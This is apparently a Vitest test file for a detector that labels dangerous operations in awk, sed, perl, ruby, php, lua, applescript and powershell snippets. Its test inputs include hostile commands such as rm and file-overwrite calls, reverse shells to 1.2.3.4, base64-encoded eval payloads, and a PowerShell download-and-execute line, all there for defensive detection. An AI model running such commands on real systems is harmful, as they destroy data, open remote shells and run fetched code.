import { describe, expect, it } from 'vitest';
import { linesOf } from './code-of.ts';

describe('awk', () => {
  it.each([
    ['BEGIN { system("rm /a") }', 'shell rm /a'],
    ['BEGIN { c = "rm /a"; system(c) }', 'shell rm /a'],
    ['{ print | "sh" }', 'shell sh'],
    ['"date" | getline d', 'shell date'],
    ['{ print > "/etc/x" }', 'overwrite /etc/x'],
    ['{ print >> "x" }', 'append /project/x'],
    ['{ system($0) }', 'opaque command'],
    ['BEGIN { "/inet/tcp/0/1.2.3.4/1" |& getline c; c | getline }', 'reverseShell'],
  ])('%s: %s', (text, line) => {
    expect(linesOf('awk', text)).toContain(line);
  });

  it.each([
    '{ print $1 }',
    '$3 > 4 { print $2 / 3, $1 }',
    '/a>b|c/ { n++ } END { print n }',
    '{ if ($1 > 2) x = "a" "b" }',
    '{ print "a > b | c" } # system("x")',
  ])('leaves alone %s', (text) => {
    expect(linesOf('awk', text)).toEqual([]);
  });
});

describe('sed', () => {
  it.each([
    ['s/a/b/e', 'opaque command'],
    ['1e rm /a', 'shell rm /a'],
    ['s/a/b/w /etc/x', 'overwrite /etc/x'],
    ['/a/,/b/{w /etc/x\n}', 'overwrite /etc/x'],
    ['r /etc/x', 'read /etc/x'],
    ['s/x[/]e/y/;e id', 'shell id'],
  ])('%s: %s', (text, line) => {
    expect(linesOf('sed', text)).toContain(line);
  });

  it.each([
    's/e/w/g',
    's|/e|/w|',
    'y/abc/ewr/',
    '/we/d;s/x/y/',
    '$!N;P;D',
    'a\\\ne text',
    '3,5p',
    '\\,e,d',
    's/[^/]*e$//',
  ])('leaves alone %s', (text) => {
    expect(linesOf('sed', text)).toEqual([]);
  });
});

describe('perl, ruby, php, lua, applescript, powershell', () => {
  it.each([
    ['perl', 'system("rm /a")', 'shell rm /a'],
    ['perl', 'system("rm", "/a")', 'shell rm /a'],
    ['perl', 'my $c = "rm /a"; `$c`', 'shell rm /a'],
    ['perl', 'open(F, "|rm /a")', 'shell rm /a'],
    ['perl', 'unlink "/a", "/b"', 'delete /b'],
    ['perl', 'eval(decode_base64("c3lzdGVtKCdybSAvYScp"))', 'shell rm /a'],
    ['ruby', 'FileUtils.rm_rf("/a")', 'delete all /a'],
    ['ruby', 'puts %x(rm /a)', 'shell rm /a'],
    ['ruby', 'system "rm", "/a"', 'shell rm /a'],
    ['ruby', 'File.open("/etc/x", "w") { |f| f << 1 }', 'overwrite /etc/x'],
    ['php', '$s = fsockopen("1.2.3.4", 1); exec("/bin/sh -i <&3");', 'reverseShell'],
    ['php', 'eval(base64_decode("c3lzdGVtKCdybSAvYScpOw=="));', 'shell rm /a'],
    ['php', 'unlink("/a");', 'delete /a'],
    ['lua', 'os.execute("rm " .. "/a")', 'shell rm /a'],
    ['lua', 'os.remove [[/a]]', 'delete /a'],
    ['applescript', 'do shell script "rm /a" with administrator privileges', 'privilege change'],
    ['powershell', 'Remove-Item -Recurse -Force /a', 'delete all /a'],
    ['powershell', `IEX (New-Object Net.WebClient).DownloadString('http://a.test')`, 'run fetched'],
    ['powershell', 'Set-ExecutionPolicy Bypass', 'defense change'],
    [
      'powershell',
      `powershell -enc ${Buffer.from('Remove-Item /a', 'utf16le').toString('base64')}`,
      'delete /a',
    ],
  ] as const)('%s: %s', (language, text, line) => {
    expect(linesOf(language, text)).toContain(line);
  });

  it.each([
    ['perl', '$x = "unlink"; s/system/exec/; print "rm -rf /\\n"; # unlink "/a"'],
    ['ruby', 'puts [1, 2].map { |x| x * 2 }.join(", ") # system "x"'],
    ['php', 'echo strtoupper("exec"); // unlink("/a");'],
    ['lua', 'print("os.execute") -- os.remove("/a")'],
    ['powershell', 'Get-ChildItem | Select-Object Name # Remove-Item /a'],
  ] as const)('%s leaves alone %s', (language, text) => {
    expect(linesOf(language, text)).toEqual([]);
  });
});
